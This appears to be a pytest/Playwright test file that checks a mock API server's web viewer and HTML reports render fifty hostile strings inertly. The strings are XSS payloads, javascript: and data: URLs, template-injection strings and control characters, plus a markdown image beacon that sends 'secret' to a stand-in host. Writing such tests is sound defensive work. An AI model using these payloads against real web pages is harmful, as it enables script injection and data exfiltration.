"""What clients and models write is hostile text: none of it runs, is fetched, or changes the page."""

import json
from typing import Any

import pytest
from playwright.sync_api import expect

from mockserver import MockServer, function_call, write_report
from tests.support.http import send

MODEL = "gpt-4.1"
KEY = "sk-hostile-texts-0001"
RUN = "window.ran=1"
HOSTILE = (
    f"<script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"<SCRIPT SRC=data:text/javascript,{RUN}></SCRIPT>",
    f"<img src=x onerror={RUN}>",
    f"<img src='x' onerror='{RUN}'/>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<body onload={RUN}>",
    "<iframe srcdoc='<script>parent.ran=1</script>'></iframe>",
    f"<iframe src=javascript:parent.{RUN}></iframe>",
    f"<object data=javascript:{RUN}></object>",
    f"<embed src=javascript:{RUN}>",
    f"<a href=javascript:{RUN}>click</a>",
    f"<details open ontoggle={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}>",
    f"<marquee onstart={RUN}>",
    f"<math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<template><script>{RUN}</script></template>",
    "<style>@import 'data:text/css,*{color:red}';</style>",
    "<link rel=stylesheet href=data:text/css,*{display:none}>",
    "<base href=https://elsewhere.example/>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    f"<form action=javascript:{RUN}><button id=open-workspace>",
    f"<isindex action=javascript:{RUN} type=image>",
    f"<!--><script>{RUN}</script-->",
    f"<![CDATA[<script>{RUN}</script>]]>",
    f"<x contenteditable onblur={RUN}>",
    f'"><img src=x onerror={RUN}>',
    f"'><img src=x onerror={RUN}>",
    f"`><img src=x onerror={RUN}>",
    f'" onmouseover={RUN} x="',
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{RUN}'/>",
    f"[click](javascript:{RUN})",
    f'![x](x"onerror="{RUN})',
    "![x](https://elsewhere.example/beacon?q=secret)",
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    f"${{{RUN}}}",
    "__proto__",
    "constructor",
    f"\u202e<script>{RUN}</script>\u202c",
    f"\x00<img src=x onerror={RUN}>\x1b]0;title\x07",
    f"\ufeff\u2028{RUN}\u2029<svg/onload={RUN}>",
)
TABS = ("conversation", "why", "timeline", "changes", "copy", "raw")


ROUNDS = [HOSTILE[start : start + 10] for start in range(0, 50, 10)]
NOT_OURS = "script:not([type]), iframe, object, embed, base, form:not(dialog form), link:not([href^=page])"


@pytest.fixture(scope="module")
def attacked():
    """A server on which each text is a prompt, a URL, a tool's name, argument and output, an answer, a rule's name."""
    with MockServer() as server:
        workspace = server.workspace(KEY)
        for number, texts in enumerate(ROUNDS):
            for text in texts:
                workspace.on(input="never", metadata={"k": text}).named(text).reply("no")
            calls = [function_call(text, arguments={text: text}) for text in texts]
            workspace.on(input=f"#{number} ").named(texts[0]).reply(*texts, *calls)
        for number, texts in enumerate(ROUNDS):
            body = body_of(number, texts)
            assert send(server.base_url, "POST", "/v1/responses", body, key=KEY).status == 200
        odd = "/v1/responses/" + "".join(f"%{byte:02x}" for byte in HOSTILE[0].encode())
        send(server.base_url, "GET", odd, key=KEY, headers={"user-agent": HOSTILE[3]})
        yield server


def body_of(number, texts):
    given: list[Any] = []
    for text in texts:
        call_id = f"call_{len(given)}"
        arguments = json.dumps({text: text})
        given += [
            {"type": "function_call", "call_id": call_id, "name": "run", "arguments": arguments},
            {"type": "function_call_output", "call_id": call_id, "output": text},
            {"role": "user", "content": [{"type": "input_image", "image_url": f"https://elsewhere.example/{text}"}]},
            {"role": "user", "content": text},
        ]
    given.append({"role": "user", "content": f"#{number} {texts[0]}"})
    return {"model": MODEL, "input": given, "instructions": texts[1], "stream": True, "metadata": {"k": texts[2]}}


def look_at_everything(page):
    """Open each exchange, and one of them in every tab; the URLs that were fetched meanwhile."""
    fetched = []
    page.on("request", lambda request: fetched.append(request.url))
    for number in range(1, len(ROUNDS) + 2):
        for tab in TABS if number == len(ROUNDS) else TABS[:1]:
            page.evaluate(f"location.hash = '#/exchange/{number}/{tab}'")
            expect(page.locator(".tab.current")).to_have_attribute("data-tab", tab)
            expect(page.locator(".title")).to_contain_text(f"#{number} ")
            page.evaluate("[...document.querySelectorAll('details')].slice(0, 40).forEach((one) => (one.open = true))")
    assert page.evaluate(f"[...document.querySelectorAll({NOT_OURS!r})].map((one) => one.outerHTML)") == []
    assert page.evaluate("window.ran") is None
    return fetched


def test_there_are_fifty_texts():
    assert len(HOSTILE) == 50 == len({*HOSTILE})


def test_hostile_texts_do_nothing_on_the_page(attacked, open_page):
    page = open_page(f"{attacked.origin}/_mock/")

    fetched = look_at_everything(page)
    page.keyboard.press("w")
    expect(page.locator(".workspace .usage tr")).to_have_count(56)

    assert [url for url in fetched if not url.startswith(f"{attacked.origin}/_mock/")] == []
    assert page.evaluate("window.ran") is None


def test_hostile_texts_are_shown_as_they_are(attacked, open_page):
    page = open_page(f"{attacked.origin}/_mock/#/exchange/1")

    expect(page.locator(".i-instructions .prose")).to_have_text(HOSTILE[1])
    expect(page.locator(".is-answer .prose")).to_contain_text([*HOSTILE[:10]])
    expect(page.locator(".i-user img")).to_have_count(0)


def test_hostile_texts_do_nothing_in_a_report(attacked, open_page, tmp_path):
    path = tmp_path / "report.html"
    write_report(path, attacked.workspace(KEY), title=HOSTILE[1])
    page = open_page(path.as_uri())

    expect(page.locator(".brand")).to_have_text(HOSTILE[1])
    assert look_at_everything(page) == []
